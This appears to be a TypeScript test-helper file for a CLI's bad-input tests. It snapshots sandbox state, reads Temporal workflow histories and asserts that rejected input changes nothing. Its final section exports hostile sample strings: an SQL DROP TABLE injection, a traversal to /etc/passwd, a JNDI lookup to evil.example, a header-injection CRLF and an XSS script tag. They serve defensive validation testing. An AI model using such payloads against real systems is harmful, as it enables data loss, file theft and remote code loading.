/**
 * Helpers of the bad-input catalogue: the sandbox's model as a comparable value, Temporal histories, the
 * shape of a CLI bad-input answer, and strings that are bad on purpose.
 */
import assert from 'node:assert/strict';
import { WorkflowNotFoundError, type Client } from '@temporalio/client';
import { temporal } from '@temporalio/proto';
import { z } from 'zod';
import { sandboxAdminHeaders, type CliRun } from '../cli/support';

// ---- the sandbox's own state ----

const stateSchema = z
  .object({
    roles: z.array(z.object({ id: z.number(), name: z.string() }).passthrough()),
    workspaces: z.array(z.object({ id: z.number(), name: z.string() }).passthrough()),
    users: z.array(
      z
        .object({ userid: z.string(), emailAddress: z.string(), expiresAt: z.string().nullable() })
        .passthrough(),
    ),
    services: z.array(z.object({ clientId: z.string() }).passthrough()),
  })
  .passthrough();
export type SandboxModel = Pick<z.infer<typeof stateSchema>, 'roles' | 'workspaces' | 'users' | 'services'>;

/**
 * Users, roles, workspaces and services as `GET /sandbox/state` shows them, without what moves on its own:
 * `lastLoginAt` (the worker's token requests), live token counts, clocks and counters.
 */
export async function sandboxModel(sandboxUrl: string): Promise<SandboxModel> {
  const response = await fetch(`${sandboxUrl}/sandbox/state`, { headers: sandboxAdminHeaders(sandboxUrl) });
  assert.equal(response.status, 200, 'GET /sandbox/state');
  const state = stateSchema.parse(await response.json());
  return {
    roles: state.roles,
    workspaces: state.workspaces,
    users: state.users.map(({ lastLoginAt: _lastLoginAt, ...user }) => user),
    services: state.services.map(({ liveTokens: _liveTokens, ...service }) => service),
  };
}

/** Fails with the first difference named (a new user, role or service, or a changed one). */
export function assertSameModel(after: SandboxModel, before: SandboxModel, label: string): void {
  const ids = (m: SandboxModel) => ({
    users: m.users.map((u) => u.userid),
    roles: m.roles.map((r) => `${r.id} ${r.name}`),
    services: m.services.map((s) => s.clientId),
  });
  assert.deepEqual(ids(after), ids(before), `${label}: the sandbox has other users, roles or services`);
  assert.deepEqual(after, before, `${label}: a user, role, workspace or service changed in the sandbox`);
}

// ---- Temporal ----

const EventType = temporal.api.enums.v1.EventType;

export interface HistoryFacts {
  length: number;
  /** Activity types of every ActivityTaskScheduled event, in order. */
  activitiesScheduled: string[];
  updatesAccepted: number;
  closed: boolean;
}

export async function historyFacts(
  client: Client,
  workflowId: string,
  runId?: string,
): Promise<HistoryFacts> {
  const history = await client.workflow.getHandle(workflowId, runId).fetchHistory();
  const events = history.events ?? [];
  return {
    length: events.length,
    activitiesScheduled: events
      .filter((e) => e.eventType === EventType.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED)
      .map((e) => e.activityTaskScheduledEventAttributes?.activityType?.name ?? '?'),
    updatesAccepted: events.filter(
      (e) => e.eventType === EventType.EVENT_TYPE_WORKFLOW_EXECUTION_UPDATE_ACCEPTED,
    ).length,
    closed: events.some(
      (e) =>
        e.eventType === EventType.EVENT_TYPE_WORKFLOW_EXECUTION_FAILED ||
        e.eventType === EventType.EVENT_TYPE_WORKFLOW_EXECUTION_COMPLETED,
    ),
  };
}

/** True when no workflow with this id exists (none was started). */
export async function workflowAbsent(client: Client, workflowId: string): Promise<boolean> {
  try {
    await client.workflow.getHandle(workflowId).describe();
    return false;
  } catch (error) {
    if (error instanceof WorkflowNotFoundError) return true;
    throw error;
  }
}

/** Workflow ids of every lifecycle on the namespace, as visibility lists them. */
export async function lifecycleIds(client: Client): Promise<Set<string>> {
  const ids = new Set<string>();
  for await (const execution of client.workflow.list({ query: `WorkflowType = 'lifecycleWorkflow'` })) {
    ids.add(execution.workflowId);
  }
  return ids;
}

/** Each error of a `cause` chain, outermost first. */
export function errorChain(error: unknown): Error[] {
  const chain: Error[] = [];
  for (let e: unknown = error; e instanceof Error && chain.length < 10; e = e.cause) chain.push(e);
  return chain;
}

export function chainText(error: unknown): string {
  return errorChain(error)
    .map((e) => {
      const type = 'type' in e && typeof e.type === 'string' ? `[${e.type}]` : '';
      return `${e.name}${type}: ${e.message}`;
    })
    .join(' <- ');
}

// ---- the CLI ----

/** `field: problem` lines of a bad-input answer on stderr (not the `error:` and `hint:` lines). */
export function problemLines(stderr: string): string[] {
  return stderr.split('\n').filter((line) => /^[\w.-]+: \S/.test(line) && !/^(error|hint): /.test(line));
}

/**
 * Exit 2, `error: bad input, nothing was changed`, one `field: problem` line matching, a hint, nothing on
 * stdout.
 */
export function assertCliBadInput(run: CliRun, problem: RegExp, label: string): void {
  const shown = `exit ${run.code}\n--- stdout\n${run.stdout}\n--- stderr\n${run.stderr}`;
  assert.equal(run.code, 2, `${label}: ${shown}`);
  // Progress lines (`… text`, plain on a pipe) may come first: `revoke` announces itself before it validates.
  const lines = run.stderr
    .trimEnd()
    .split('\n')
    .filter((line) => !line.startsWith('\u2026 '));
  assert.equal(lines[0], 'error: bad input, nothing was changed', `${label}: ${shown}`);
  assert.match(lines.at(-1) ?? '', /^hint: \S/, `${label}: the last line is a hint`);
  const problems = problemLines(run.stderr);
  assert.ok(problems.length > 0, `${label}: no "field: problem" line: ${shown}`);
  assert.ok(
    problems.some((p) => problem.test(p)),
    `${label}: no problem line matching ${String(problem)} in:\n${problems.join('\n')}`,
  );
  assert.equal(run.stdout, '', `${label}: nothing on stdout`);
}

// ---- bad strings ----

export const CYRILLIC_A = '\u0430';
export const GREEK_OMICRON = '\u03bf';
export const FULLWIDTH_AT = '\uff20';
export const CRLF_HEADER = '\r\nX-Injected: yes';
export const SQL = "'; DROP TABLE users; --";
export const TRAVERSAL = '../../etc/passwd';
export const JNDI = '${jndi:ldap://evil.example/a}';
export const SCRIPT = '<script>alert(1)</script>';

/**
 * An address of exactly `length` characters (at least 16) that breaks no other rule: a local part of at most
 * 64 characters, and the rest carried by domain labels of at most 63.
 */
export function longEmail(length: number): string {
  const local = 'a'.repeat(Math.min(64, length - '@bb.com'.length));
  let domainLeft = length - local.length - 1 - '.com'.length;
  const labels: string[] = [];
  while (domainLeft > 0) {
    // Leave at least two characters for the next label: a label of one letter and its dot.
    const size = domainLeft <= 63 ? domainLeft : Math.min(63, domainLeft - 2);
    labels.push('b'.repeat(size));
    domainLeft -= size + 1;
  }
  return `${local}@${labels.join('.')}.com`;
}
